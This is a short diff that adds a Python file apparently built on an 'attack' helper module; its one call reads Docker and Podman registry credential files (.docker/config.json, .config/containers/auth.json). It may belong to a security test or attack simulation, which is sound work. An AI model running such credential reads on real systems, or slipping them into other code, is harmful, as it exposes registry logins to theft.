@@ -1,0 +1,3 @@
+from attack import *
+
+read_any(".docker/config.json", ".config/containers/auth.json")
